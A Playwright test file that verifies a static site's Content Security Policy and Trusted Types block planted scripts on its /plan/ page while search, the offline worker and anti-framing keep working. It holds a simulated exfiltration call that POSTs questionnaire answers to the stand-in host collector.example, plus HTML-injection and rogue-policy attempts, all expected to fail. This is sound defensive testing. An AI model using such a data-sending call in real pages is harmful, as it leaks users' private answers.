/** The Content Security Policy and Trusted Types, enforced by Chromium on the built site. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { readFileSync } from 'node:fs';
import { launchBrowser, watchForeignRequests } from '../support/browser.ts';
import { DIST, assertBuilt } from '../support/site.ts';
import { startStaticServer, type StaticServer } from '../support/static-server.ts';

let browser: Browser;
let server: StaticServer;
let context: BrowserContext;
let foreign: string[];

// These tests cause violations on purpose, so this file watches for them itself.
beforeAll(async () => {
  assertBuilt();
  server = await startStaticServer(DIST);
  browser = await launchBrowser();
  context = await browser.newContext({ serviceWorkers: 'block' });
  foreign = watchForeignRequests(context, server.origin);
});
afterAll(async () => {
  await browser?.close();
  await server?.close();
});

async function openPlan(): Promise<Page> {
  const page = await context.newPage();
  await page.goto(`${server.origin}/plan/`);
  await page.locator('.questionnaire[data-ready="true"]').waitFor();
  return page;
}

describe('on /plan/, a script planted in the page', () => {
  it('cannot send anything to another origin: the browser refuses the request and reports it', async () => {
    const page = await openPlan();
    const outcome = await page.evaluate(async () => {
      const violation = new Promise<string>((resolve) =>
        addEventListener('securitypolicyviolation', (e) => resolve(`${e.effectiveDirective} ${e.blockedURI}`), { once: true }),
      );
      const sent = await fetch('https://collector.example/answers', { method: 'POST', body: 'answers' }).then(
        () => 'sent',
        (error: Error) => error.name,
      );
      return { sent, violation: await violation };
    });
    expect(outcome).toEqual({ sent: 'TypeError', violation: 'connect-src https://collector.example/answers' });
    expect(foreign).toEqual([]);
    await page.close();
  });

  it('cannot write a string of HTML into the page: Trusted Types refuses it', async () => {
    const page = await openPlan();
    const outcome = await page.evaluate(async () => {
      const violation = new Promise<string>((resolve) =>
        addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true }),
      );
      let error = '';
      try {
        document.querySelector('main')!.innerHTML = '<img src="/favicon.svg" data-planted>';
      } catch (e) {
        error = `${(e as Error).name}: ${(e as Error).message}`;
      }
      return { error, violation: await violation, planted: document.querySelectorAll('[data-planted]').length };
    });
    expect(outcome.error).toMatch(/^TypeError: .*TrustedHTML/);
    expect(outcome.violation).toBe('require-trusted-types-for');
    expect(outcome.planted).toBe(0);
    await page.close();
  });

  it('cannot create a Trusted Types policy of its own', async () => {
    const page = await openPlan();
    const error = await page.evaluate(() => {
      try {
        (window as unknown as { trustedTypes: { createPolicy(n: string, r: object): unknown } }).trustedTypes.createPolicy('planted', {
          createHTML: (s: string) => s,
        });
        return '';
      } catch (e) {
        return (e as Error).name;
      }
    });
    expect(error).toBe('TypeError');
    await page.close();
  });
});

describe('with the policy on, the site keeps working', () => {
  it('search runs Pagefind in its worker and shows excerpts with their marks', async () => {
    const page = await context.newPage();
    const violations: string[] = [];
    page.on('console', (m) => {
      if (m.type() === 'error') violations.push(m.text());
    });
    const worker = page.waitForEvent('worker');
    await page.goto(`${server.origin}/search/?q=ransomware`);
    expect(new URL((await worker).url()).pathname).toBe('/pagefind/pagefind-worker.js');
    await page.locator('#search-results li mark').first().waitFor();
    expect(violations).toEqual([]);
    await page.close();
  });
});

describe("served with the policy as an HTTP header, as the README's Deploy section gives it", () => {
  let withHeader: StaticServer;
  const policy = (file: string) => /content-security-policy" content="([^"]*)"/.exec(readFileSync(`${DIST}/${file}`, 'utf8'))![1];
  beforeAll(async () => {
    const everyPath = `${policy('index.html')} frame-ancestors 'none';`;
    const search = `${policy('search/index.html')} frame-ancestors 'none';`;
    withHeader = await startStaticServer(DIST, {
      headers: (path) => ({ 'Content-Security-Policy': /^\/(search|pagefind)\//.test(path) ? search : everyPath }),
    });
  });
  afterAll(() => withHeader?.close());

  it('registers the offline worker and searches in Pagefind’s worker, with no violation', async () => {
    const offline = await browser.newContext();
    const page = await offline.newPage();
    const errors: string[] = [];
    page.on('console', (m) => {
      if (m.type() === 'error') errors.push(m.text());
    });
    await page.goto(`${withHeader.origin}/`);
    expect(await page.evaluate(async () => (await navigator.serviceWorker.ready).active?.scriptURL)).toBe(`${withHeader.origin}/sw.js`);
    const worker = page.waitForEvent('worker');
    await page.goto(`${withHeader.origin}/search/?q=ransomware`);
    expect(new URL((await worker).url()).pathname).toBe('/pagefind/pagefind-worker.js');
    await page.locator('#search-results li mark').first().waitFor();
    expect(errors).toEqual([]);
    await offline.close();
  });

  it('keeps the pages out of frames on other sites, which the meta tag alone cannot', async () => {
    const page = await context.newPage();
    const framed = async (origin: string) => {
      await page.setContent(`<iframe src="${origin}/about/"></iframe>`);
      const frame = await (await page.waitForSelector('iframe')).contentFrame();
      await frame!.waitForLoadState();
      return frame!.url();
    };
    expect(await framed(server.origin)).toBe(`${server.origin}/about/`);
    expect(await framed(withHeader.origin)).not.toBe(`${withHeader.origin}/about/`);
    await page.close();
  });
});
